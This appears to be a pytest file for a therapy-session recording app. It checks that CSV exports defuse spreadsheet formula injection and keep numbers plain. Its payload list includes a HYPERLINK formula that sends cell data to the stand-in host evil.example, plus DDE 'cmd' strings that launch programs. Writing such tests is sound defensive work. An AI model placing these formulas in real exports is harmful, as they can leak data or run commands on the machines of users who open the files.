"""CSV exports never hand a spreadsheet a formula: free text starting with = + - @ tab CR
gets a leading single quote (OWASP CSV injection); numbers stay plain numbers."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from runningroom.records.csv_export import csv_text
from runningroom.records.export import export_sessions
from tests.records.fixtures import Db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", PAYLOADS)
def test_formula_text_is_quoted(text: str) -> None:
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("text", ["gait unsteady, slowed down", "", "1.5", "a=b", " =x"])
def test_plain_text_is_unchanged(text: str) -> None:
    assert csv_text(text) == text


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def _only(files: list[Path], suffix: str) -> Path:
    (path,) = [f for f in files if f.name.endswith(suffix)]
    return path


def test_exported_free_text_cannot_become_a_formula(one_session_db: Db, tmp_path: Path) -> None:
    conn = one_session_db.conn
    sid = one_session_db.sessions[0].session_id
    for i, text in enumerate(PAYLOADS):
        conn.execute(
            "INSERT INTO events (session_id, t_s, at, kind, cause, message) "
            "VALUES (?, ?, '2026-01-05T09:00:00Z', 'annotation', 'therapist', ?)",
            (sid, 100.0 + i, text),
        )
    profile = json.loads(conn.execute("SELECT profile_json FROM sessions WHERE session_id = ?",
                                      (sid,)).fetchone()[0])
    profile["display_name"] = "=1+2"
    template = json.loads(conn.execute("SELECT template_json FROM sessions WHERE session_id = ?",
                                       (sid,)).fetchone()[0])
    template["name"] = "@walking"
    conn.execute("UPDATE sessions SET profile_json = ?, template_json = ? WHERE session_id = ?",
                 (json.dumps(profile), json.dumps(template), sid))
    conn.commit()
    files = export_sessions(conn, [sid], "csv", tmp_path / "out", include_name=True)

    events = _rows(_only(files, "_events.csv"))
    messages = [e["message"] for e in events]
    for text in PAYLOADS:
        assert "'" + text in messages
    # nothing in any text column starts a formula
    for e in events:
        for key in ("kind", "cause", "message"):
            assert e[key][:1] not in set("=+-@\t\r"), e
    (summary,) = _rows(_only(files, "_sessions_summary.csv"))
    assert summary["display_name"] == "'=1+2"
    assert summary["template"] == "'@walking"
    assert summary["duration_min"] == "45"  # numbers stay numbers


def test_negative_numbers_are_not_quoted(one_session_db: Db, tmp_path: Path) -> None:
    conn = one_session_db.conn
    sid = one_session_db.sessions[0].session_id
    conn.execute("UPDATE samples SET incline_cmd_pct = -1.5 WHERE session_id = ?", (sid,))
    conn.commit()
    files = export_sessions(conn, [sid], "csv", tmp_path / "neg")
    samples = _rows(_only(files, "_samples.csv"))
    assert samples[0]["incline_cmd_pct"] == "-1.5"
